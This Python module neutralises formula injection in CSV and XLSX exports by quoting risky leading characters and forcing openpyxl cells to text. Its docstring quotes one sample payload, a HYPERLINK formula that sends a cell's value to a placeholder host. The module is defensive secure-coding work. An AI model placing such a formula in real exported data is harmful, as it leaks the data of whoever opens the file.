"""Text that reaches a spreadsheet stays text (formula / CSV injection, OWASP).

A site name, group label or free-text value such as ``=HYPERLINK("http://x/?leak="&B3, "click")``
would otherwise run as a formula when a report table or a registry export is opened in Excel or
LibreOffice. Two rules, shared by every writer of .csv and .xlsx files:

* XLSX: every string cell is stored as a string (openpyxl turns a string starting with ``=`` into
  a formula unless told otherwise) and, when it starts with a formula character, also carries
  Excel's "quote prefix" style, so that editing the cell keeps it text.
* CSV has no cell types, so a string starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return gets a leading single quote (``'=1+1``), the OWASP recommendation; a carriage return inside
  a text becomes a line feed, so that the field is quoted and cannot start a new row. Numbers are never
  touched (a negative coefficient stays ``-0.5``). Use this only for files made for reading, not
  for files that are read back as data.
"""
from __future__ import annotations

import pandas as pd

#: Leading characters a spreadsheet reads as the start of a formula (or that hide one, tab and CR).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value):
    """``value`` with a leading single quote when it is a string a spreadsheet would run as a formula.

    A carriage return inside the text becomes a line feed: Python's csv writer (with ``\n`` line ends)
    leaves a field holding only ``\r`` unquoted, and a spreadsheet then starts a new row there, whose
    first cell could be a formula. A line feed makes the writer quote the field."""
    if not isinstance(value, str):
        return value
    if "\r" in value:
        value = value.replace("\r\n", "\n").replace("\r", "\n")
        if value.startswith("\n"):
            return "'" + value
    return "'" + value if value.startswith(FORMULA_START) else value


def _safe_labels(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        index = index.set_levels([_safe_labels(level) for level in index.levels])
    elif index.dtype == object or pd.api.types.is_string_dtype(index):
        index = index.map(csv_safe)
    return index.set_names([csv_safe(n) for n in index.names])   # the header cell of the index


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and index labels are neutralised; numeric,
    date and bool columns are unchanged."""
    out = frame.copy()
    for j in range(out.shape[1]):
        col = out.iloc[:, j]
        if col.dtype == object or pd.api.types.is_string_dtype(col) or isinstance(col.dtype, pd.CategoricalDtype):
            out.isetitem(j, col.astype(object).map(csv_safe, na_action="ignore"))
    out.columns = _safe_labels(out.columns)
    out.index = _safe_labels(out.index)
    return out


def keep_text(cell) -> None:
    """Make an openpyxl cell holding a string a text cell, never a formula."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if cell.value.startswith(FORMULA_START):
            cell.quotePrefix = True


def keep_text_in_sheet(ws) -> None:
    """:func:`keep_text` for every cell of an openpyxl worksheet (e.g. one pandas has just written)."""
    for row in ws.iter_rows():
        for cell in row:
            keep_text(cell)
